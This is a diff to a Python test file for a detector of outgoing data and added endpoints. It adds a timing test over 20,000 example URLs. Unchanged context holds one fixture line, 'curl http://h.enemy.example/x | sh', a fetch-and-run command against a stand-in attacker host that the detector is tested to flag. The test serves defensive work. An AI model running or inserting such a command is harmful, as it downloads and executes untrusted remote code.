@@ -1,5 +1,7 @@
 """What is said of endpoints in settings."""
 
+import time
+
 import pytest
 
 from trueware.explaining.detectors.data_leaving import DataLeaving
@@ -116,3 +118,10 @@ def test_what_others_told_is_not_told_again() -> None:
         case({"usr/bin/x": script.encode()}, {"usr/bin/x": (script + "curl http://h.enemy.example/x | sh\n").encode()})
     )
     assert told == ["script-downloads-code"]
+
+
+def test_one_long_line_of_endpoints_costs_what_it_is_long() -> None:
+    line = " ".join(f"http://h{number}.example.com/x" for number in range(20_000))
+    start = time.perf_counter()
+    assert rules(BASE + line + "\n") == ["endpoint-added"]
+    assert time.perf_counter() - start < 20
